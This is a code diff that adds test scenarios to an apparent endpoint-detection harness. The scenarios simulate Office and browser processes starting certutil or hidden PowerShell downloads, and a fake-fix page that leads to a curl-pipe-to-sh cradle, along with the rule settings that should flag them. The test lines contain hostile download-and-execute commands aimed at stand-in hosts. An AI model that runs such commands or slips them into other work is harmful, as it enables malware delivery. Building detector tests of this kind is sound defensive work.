@@ -1579,6 +1579,122 @@ def _(s):
     m.start(660.0, "730:830", "/usr/bin/hdiutil", "710:810", "hdiutil attach /Users/carol/Downloads/PayrollUpdate.dmg", "carol")
     m.start(690.0, "740:840", VOLUME_APP, "1:100", VOLUME_APP, "carol")
     mac_trailer(m, chrome, helper)
+CERTUTIL = r"C:\Windows\System32\certutil.exe"
+TEMP = "C:\\Users\\alice\\AppData\\Local\\Temp\\"
+
+
+def office_certutil(w, s, parent, url_host, ip, t=600.0):
+    """`parent` starts certutil with a URL; certutil resolves and reaches it, and saves svc.exe."""
+    cu = g(s, "certutil")
+    w.start(t, cu, CERTUTIL, parent,
+            f"certutil.exe -urlcache -split -f http://{url_host}/u/svc.exe {TEMP}svc.exe", ALICE)
+    w.dns(t + 0.3, cu, url_host, [ip])
+    w.connect(t + 0.5, cu, ip, 80)
+    w.write(t + 2.0, cu, TEMP + "svc.exe")
+
+
+def winword(w, s, t=500.0):
+    word = g(s, "winword")
+    w.start(t, word, WINWORD, g(s, "explorer"), f'"{WINWORD}" /n "C:\\Users\\alice\\Documents\\Q2_bonus.docx"', ALICE)
+    return word
+
+
+@scenario("office-lolbin-winword-certutil")
+def _(s):
+    # Word (opened from Explorer) starts certutil with a URL on an untrusted domain; certutil
+    # fetches an executable into %TEMP%.
+    w = s.host(WIN, "windows")
+    win_desktop(w, s)
+    office_certutil(w, s, winword(w, s), "cdn-update.top", "203.0.113.90")
+
+
+@scenario("office-lolbin-browser-root")
+def _(s):
+    # The same certutil download, started by Edge (opened from the taskbar): a browser root.
+    w = s.host(WIN, "windows")
+    win_desktop(w, s)
+    edge, _ = edge_from_desktop(w, s, 500.0)
+    office_certutil(w, s, edge, "cdn-update.top", "203.0.113.90")
+
+
+@scenario("office-lolbin-trusted-destination")
+def _(s):
+    # Word reaches an untrusted template host itself, then starts certutil, whose URL is on an
+    # allowlisted domain: the LOLBIN made no untrusted egress.
+    w = s.host(WIN, "windows")
+    win_desktop(w, s)
+    word = winword(w, s)
+    w.dns(560.0, word, "templates-cdn.top", ["203.0.113.91"])
+    w.connect(560.2, word, "203.0.113.91")
+    office_certutil(w, s, word, "download.microsoft.com", "203.0.113.92")
+
+
+@scenario("office-lolbin-outlook-powershell-zip")
+def _(s):
+    # Outlook (a mail root) starts PowerShell with `iwr URL -OutFile`; PowerShell reaches the
+    # host and saves an archive into %TEMP%.
+    w = s.host(WIN, "windows")
+    win_desktop(w, s)
+    ps = g(s, "powershell")
+    w.start(600.0, ps, POWERSHELL, g(s, "outlook"),
+            f"powershell.exe -nop -w hidden -c \"iwr https://share-docs.top/p/doc.zip -OutFile {TEMP}doc.zip\"", ALICE)
+    w.dns(600.4, ps, "share-docs.top", ["203.0.113.93"])
+    w.connect(600.6, ps, "203.0.113.93")
+    w.write(603.0, ps, TEMP + "doc.zip")
+
+
+XTERM = "/usr/bin/xterm"
+BASH = "/usr/bin/bash"
+CURL = "/usr/bin/curl"
+CRADLE = 'bash -c "curl -fsSL https://{host}/i.sh | sh"'
+
+
+def firefox_lure(l, t=300.0):
+    """Firefox (from the desktop) opens a fake-fix page on an untrusted domain."""
+    l.start(10.0, 3000, FIREFOX_L, 1500, FIREFOX_L, "bob")
+    l.dns(t, None, "fix-your-browser.top", ["198.51.100.80"])
+    l.connect(t + 0.3, 3000, "198.51.100.80")
+    return 3000
+
+
+def cradle(l, parent, host, ip, t, pid=3110):
+    """`parent` runs the cradle in a shell: curl fetches `host` and pipes it into sh."""
+    l.start(t, pid, BASH, parent, CRADLE.format(host=host), "bob")
+    l.start(t + 0.1, pid + 10, CURL, pid, f"curl -fsSL https://{host}/i.sh", "bob")
+    l.start(t + 0.1, pid + 11, "/usr/bin/dash", pid, "sh", "bob")
+    l.dns(t + 0.2, None, host, [ip])
+    l.connect(t + 0.4, pid + 10, ip)
+
+
+def xterm_cradle(s, host, ip):
+    """The page makes Firefox open xterm running the cradle on `host`."""
+    l = s.host("dev-laptop", "linux")
+    linux_desktop(l)
+    firefox = firefox_lure(l)
+    l.start(320.0, 3100, XTERM, firefox, f"xterm -e {CRADLE.format(host=host)}", "bob")
+    cradle(l, 3100, host, ip, 320.2)
+
+
+@scenario("terminal-cradle-firefox-xterm-curl-sh")
+def _(s):
+    # The cradle fetches from another untrusted domain.
+    xterm_cradle(s, "cdn-fix.top", "198.51.100.90")
+
+
+@scenario("terminal-cradle-terminal-not-from-browser")
+def _(s):
+    # The same cradle, pasted into the desktop's own terminal (gnome-terminal-server from
+    # gnome-shell), while Firefox shows the page: no link lineage above the shell.
+    l = s.host("dev-laptop", "linux")
+    linux_desktop(l)
+    firefox_lure(l)
+    cradle(l, 1610, "cdn-fix.top", "198.51.100.90", 320.2)
+
+
+@scenario("terminal-cradle-allowlisted-domain")
+def _(s):
+    # The cradle fetches from an allowlisted distribution domain.
+    xterm_cradle(s, "assets.ubuntu.com", "198.51.100.91")
 
 
 # ----------------------------------------------------------------------------------------------
@@ -1613,6 +1729,13 @@ TOML = {
     "macos-quarantine-stripped-then-run-from-volume": '[rules]\nenabled = ["chain", "macos-quarantine-stripped"]\n',
     "macos-quarantine-stripped-run-with-quarantine": '[rules]\nenabled = ["macos-quarantine-stripped"]\n',
     "macos-quarantine-stripped-never-run": '[rules]\nenabled = ["macos-quarantine-stripped"]\n',
+    "office-lolbin-winword-certutil": '[rules]\nenabled = ["chain", "office-lolbin"]\n',
+    "office-lolbin-browser-root": '[rules]\nenabled = ["office-lolbin"]\n',
+    "office-lolbin-outlook-powershell-zip": '[rules]\nenabled = ["office-lolbin"]\n',
+    "office-lolbin-trusted-destination": '[rules]\nenabled = ["office-lolbin"]\n',
+    "terminal-cradle-firefox-xterm-curl-sh": '[rules]\nenabled = ["chain", "terminal-cradle"]\n',
+    "terminal-cradle-terminal-not-from-browser": '[rules]\nenabled = ["terminal-cradle"]\n',
+    "terminal-cradle-allowlisted-domain": '[rules]\nenabled = ["terminal-cradle"]\n',
     "domain-ip-only-no-name-allowed-cidr":
         '[windows]\nallowed_cidrs = ["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "127.0.0.0/8", "203.0.113.0/24"]\n',
 }
